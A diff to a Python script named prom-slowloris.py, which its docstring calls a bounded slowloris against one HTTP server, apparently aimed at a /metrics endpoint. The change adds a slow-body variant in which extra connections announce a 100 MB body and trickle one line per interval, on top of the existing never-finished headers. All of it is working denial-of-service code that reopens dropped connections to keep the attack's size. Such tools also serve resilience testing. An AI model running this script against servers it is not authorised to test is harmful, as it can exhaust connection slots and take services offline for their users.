@@ -1,11 +1,13 @@
 #!/usr/bin/python3
 """prom-slowloris.py -- a bounded slowloris against one HTTP server.
 
-Usage: prom-slowloris.py HOST PORT N INTERVAL DURATION
+Usage: prom-slowloris.py HOST PORT N INTERVAL DURATION [NBODY]
 
 Keeps N connections open to HOST:PORT for DURATION seconds.  Each sends
 a request line, then one more header line every INTERVAL seconds, and
-never ends its header.  A connection the server closes is opened again
+never ends its header.  NBODY more connections (default 0) send a whole
+GET header announcing a 100 MB body, then one body line every INTERVAL
+seconds.  A connection the server closes is opened again
 one second later, so the attack keeps its size for as long as it runs.
 At the end it prints
 
@@ -26,6 +28,8 @@ def main():
     host, port = sys.argv[1], int(sys.argv[2])
     n, interval, duration = (int(sys.argv[3]), float(sys.argv[4]),
                              float(sys.argv[5]))
+    nbody = int(sys.argv[6]) if len(sys.argv) > 6 else 0
+    n += nbody
     sel = selectors.DefaultSelector()
     start = time.monotonic()
     end = start + duration
@@ -53,6 +57,8 @@ def main():
                 try:
                     s = socket.create_connection((host, port), timeout=2)
                     s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
+                    if slot < nbody:
+                        s.sendall(b"Content-Length: 100000000\r\n\r\n")
                 except OSError:
                     due[slot] = now + 1.0
                     continue
@@ -64,7 +70,9 @@ def main():
             if st[2] <= now:
                 st[2] = now + interval
                 try:
-                    s.send(b"X-Slow: %d\r\n" % int(now - start))
+                    s.send(b"%s: %d\r\n" % (b"body" if st[0] < nbody
+                                              else b"X-Slow",
+                                              int(now - start)))
                 except OSError:
                     close(s, True)
         for key, _ in sel.select(timeout=0.1):
